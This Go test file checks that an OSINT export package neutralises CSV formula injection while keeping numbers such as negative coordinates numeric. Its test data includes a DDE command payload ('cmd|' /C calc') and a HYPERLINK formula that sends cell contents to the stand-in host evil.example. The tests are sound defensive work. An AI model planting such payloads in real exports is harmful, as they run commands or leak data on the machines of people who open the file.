package export

import (
	"bytes"
	"encoding/csv"
	"slices"
	"testing"

	"github.com/vigil-osint/vigil"
)

func TestSpreadsheetSafe(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"Kabul", "Kabul"},
		{"=HYPERLINK(\"http://x\",\"y\")", "'=HYPERLINK(\"http://x\",\"y\")"},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"-", "'-"},
		{"-e5", "'-e5"},
		{"- Talibans", "'- Talibans"},
		// Numbers stay numbers.
		{"-3", "-3"},
		{"-12.5", "-12.5"},
		{"+1e3", "+1e3"},
		{"-.5", "-.5"},
		{"-1.5E-3", "-1.5E-3"},
		{"-1.2.3", "'-1.2.3"},
		{"-1e", "'-1e"},
		{"3", "3"},
		{"a=b", "a=b"},
	}
	for _, tt := range tests {
		if got := SpreadsheetSafe(tt.in); got != tt.want {
			t.Errorf("SpreadsheetSafe(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// TestCSVSpreadsheetSafe: each CSV writer writes untrusted text as it came
// by default (lossless for R and pandas) and with a leading quote under
// Options.SpreadsheetSafe, never quoting a number (a negative coordinate).
func TestCSVSpreadsheetSafe(t *testing.T) {
	const formula = `=HYPERLINK("http://evil.example/?"&A1,"click")`
	e := sampleEvent()
	lat, lon := -12.5, -77.03
	e.Latitude, e.Longitude = &lat, &lon
	e.Name = "@SUM(1+1)*cmd|' /C calc'!A0"
	e.Actors[0].Name = formula
	e.Actors[1].Name = "-2+3"
	for _, format := range []string{"csv", "acled-csv", "ucdp-csv"} {
		t.Run(format, func(t *testing.T) {
			for _, safe := range []bool{false, true} {
				var b bytes.Buffer
				write(t, FormatsWith[format](&b, Options{SpreadsheetSafe: safe}), []*vigil.Event{e})
				recs, err := csv.NewReader(&b).ReadAll()
				if err != nil {
					t.Fatal(err)
				}
				var cells []string
				for _, r := range recs[1:] {
					cells = append(cells, r...)
				}
				for _, c := range cells {
					if safe && c != "" && slices.Contains([]byte("=+-@\t\r"), c[0]) && !isDecimal(c) {
						t.Errorf("safe: cell %q would run as a formula", c)
					}
				}
				for _, num := range []string{"-12.5", "-77.03"} {
					if !slices.Contains(cells, num) {
						t.Errorf("safe=%v: the coordinate %s is not written as a number: %q", safe, num, cells)
					}
				}
				hasRaw := slices.ContainsFunc(cells, func(c string) bool { return len(c) >= len(formula) && c[:len(formula)] == formula })
				hasSafe := slices.ContainsFunc(cells, func(c string) bool { return len(c) > len(formula) && c[:len(formula)+1] == "'"+formula })
				if safe && (hasRaw || !hasSafe) || !safe && (!hasRaw || hasSafe) {
					t.Errorf("safe=%v: actor name written raw %v, quoted %v: %q", safe, hasRaw, hasSafe, cells)
				}
			}
		})
	}
}
